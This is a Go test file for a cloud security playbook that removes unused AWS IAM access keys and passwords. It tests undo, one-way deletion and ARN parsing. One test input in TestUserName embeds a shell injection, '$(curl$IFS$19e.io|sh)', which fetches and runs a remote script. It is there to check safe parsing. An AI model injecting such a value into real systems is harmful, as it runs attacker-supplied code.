package iam_test

import (
	"context"
	"crypto/rand"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"github.com/aws/aws-sdk-go-v2/service/iam/types"
	"github.com/google/go-cmp/cmp"

	playbook "github.com/salve-security/salve/functions/playbooks/iam"
	"github.com/salve-security/salve/functions/playbooktest"
	"github.com/salve-security/salve/internal/control"
	"github.com/salve-security/salve/internal/fault"
)

const userPrefix = "arn:aws:iam::" + playbooktest.DefaultAccount + ":user/"

// afterwards is a time at which everything the lab makes now is unused.
func afterwards() time.Time { return time.Now().Add(100 * 24 * time.Hour) }

func unused(t *testing.T) control.Control {
	return playbooktest.Pick(t, playbook.UnusedCredentials(), "IAM.8")
}

func TestUnusedCredentials(t *testing.T) {
	playbooktest.Run(t, playbooktest.Suite{
		Control: playbooktest.Pick(t, playbook.UnusedCredentials(), "IAM.8"), Now: afterwards(),
		Seed: newUser,
		Foreign: []string{
			userPrefix, userPrefix + "*", userPrefix + "a b", userPrefix + "a\nb/bob",
			userPrefix + strings.Repeat("a", 511) + "/bob",
			"arn:aws:iam::222222222222:root", "arn:aws:iam::222222222222:role/x",
		},
		Observe: keysAndTags,
		Disturb: deleteKeys, // a key has two states: only its absence is neither of them
		Unrelated: func(ctx context.Context, t *testing.T, root aws.Config, resource string) {
			playbooktest.Got(iam.NewFromConfig(root).TagUser(ctx, &iam.TagUserInput{
				UserName: userName(resource), Tags: []types.Tag{{Key: aws.String("team"), Value: aws.String("ops")}},
			}))(t)
		},
		Delete: func(ctx context.Context, t *testing.T, root aws.Config, resource string) {
			client, name := iam.NewFromConfig(root), userName(resource)
			deleteKeys(ctx, t, root, resource)
			playbooktest.Got(client.DeleteLoginProfile(ctx, &iam.DeleteLoginProfileInput{UserName: name}))(t)
			playbooktest.Got(client.DeleteUser(ctx, &iam.DeleteUserInput{UserName: name}))(t)
		},
	})
}

// newUser has two keys, one of them active, and a password.
func newUser(ctx context.Context, t *testing.T, root aws.Config) string {
	client, name := iam.NewFromConfig(root), "suite-"+strings.ToLower(rand.Text())
	playbooktest.Got(client.CreateUser(ctx, &iam.CreateUserInput{UserName: &name}))(t)
	for _, status := range []types.StatusType{types.StatusTypeActive, types.StatusTypeInactive} {
		key := playbooktest.Got(client.CreateAccessKey(ctx, &iam.CreateAccessKeyInput{UserName: &name}))(t).AccessKey
		playbooktest.Got(client.UpdateAccessKey(ctx, &iam.UpdateAccessKeyInput{
			UserName: &name, AccessKeyId: key.AccessKeyId, Status: status,
		}))(t)
	}
	playbooktest.Got(client.CreateLoginProfile(ctx, &iam.CreateLoginProfileInput{
		UserName: &name, Password: aws.String("Correct-horse-7-" + rand.Text()),
	}))(t)
	return userPrefix + name
}

func userName(resource string) *string { return aws.String(strings.TrimPrefix(resource, userPrefix)) }

func keysOf(ctx context.Context, t *testing.T, root aws.Config, resource string) []types.AccessKeyMetadata {
	in := iam.ListAccessKeysInput{UserName: userName(resource)}
	return playbooktest.Got(iam.NewFromConfig(root).ListAccessKeys(ctx, &in))(t).AccessKeyMetadata
}

// keysAndTags leaves out the password, which undo cannot bring back: TestPasswordIsOneWay is about that.
func keysAndTags(ctx context.Context, t *testing.T, root aws.Config, resource string) any {
	seen := map[string]int{}
	for _, k := range keysOf(ctx, t, root, resource) {
		seen[string(k.Status)]++
	}
	in := iam.ListUserTagsInput{UserName: userName(resource)}
	for _, tag := range playbooktest.Got(iam.NewFromConfig(root).ListUserTags(ctx, &in))(t).Tags {
		seen["tag "+aws.ToString(tag.Key)]++
	}
	return seen
}

// deleteKeys deletes all keys: after a fix none is active that the suite could tell apart.
func deleteKeys(ctx context.Context, t *testing.T, root aws.Config, resource string) {
	for _, k := range keysOf(ctx, t, root, resource) {
		in := iam.DeleteAccessKeyInput{UserName: k.UserName, AccessKeyId: k.AccessKeyId}
		playbooktest.Got(iam.NewFromConfig(root).DeleteAccessKey(ctx, &in))(t)
	}
}

func hasPassword(t *testing.T, resource string) bool {
	in := iam.GetLoginProfileInput{UserName: userName(resource)}
	_, err := iam.NewFromConfig(playbooktest.Root(t)).GetLoginProfile(t.Context(), &in)
	if fault.Of(err) != fault.Gone {
		playbooktest.Done(t, err)
	}
	return err == nil
}

// Undo brings keys back, says why it cannot do so with a password, and does not try.
func TestPasswordIsOneWay(t *testing.T) {
	c, root := unused(t), playbooktest.Root(t)
	resource := newUser(t.Context(), t, root)
	before := keysAndTags(t.Context(), t, root, resource)
	env := playbooktest.Env(t, c, resource, playbooktest.At(afterwards()))
	plan := playbooktest.Got(c.Plan(t.Context(), env))(t)
	if !plan.OneWay() || !strings.Contains(plan.String(), "one way: a deleted password cannot be restored") {
		t.Errorf("the plan does not say that it is one way:\n%s", plan)
	}
	changes := playbooktest.Fix(t, c, env)
	if hasPassword(t, resource) {
		t.Error("the password is still there")
	}
	playbooktest.Undo(t, c, env, changes)
	if d := cmp.Diff(before, keysAndTags(t.Context(), t, root, resource)); d != "" {
		t.Errorf("keys after the undo (-want +got):\n%s", d)
	}
}

func TestKeyVanishesBeforeTheWrite(t *testing.T) {
	c, root := unused(t), playbooktest.Root(t)
	resource := newUser(t.Context(), t, root)
	env := playbooktest.Env(t, c, resource, playbooktest.At(afterwards()))
	plan := playbooktest.Got(c.Plan(t.Context(), env))(t)
	deleteKeys(t.Context(), t, root, resource)
	playbooktest.Fails(t, c.Apply(t.Context(), env, plan), fault.Retry)
	if !hasPassword(t, resource) {
		t.Error("the password was deleted by a plan that no longer held")
	}
}

// Credentials made today are not unused today, and without a time nothing is. Nor is what AWS leaves out of an answer.
func TestNewCredentialsStay(t *testing.T) {
	c, resource := unused(t), newUser(t.Context(), t, playbooktest.Root(t))
	env := playbooktest.Env(t, c, resource)
	playbooktest.Planned(t, c, env, "")
	env.Now = time.Time{}
	if _, err := c.Plan(t.Context(), env); err == nil {
		t.Error("a plan was made without a time")
	}
	playbooktest.Unanswered(t, c, resource, &iam.GetUserOutput{}, &iam.GetLoginProfileOutput{})
}

// A path may hold any sign that shows. What is refused stands in the suite.
func TestUserName(t *testing.T) {
	playbooktest.Accepts(t, unused(t), map[string]string{
		userPrefix + "eve":                        "eve",
		userPrefix + "division/team/eve@corp.net": "eve@corp.net",
		userPrefix + "$(curl$IFS$19e.io|sh)/bob":  "bob",
		"arn:aws-us-gov:iam::222222222222:user/a": "a",
	})
}
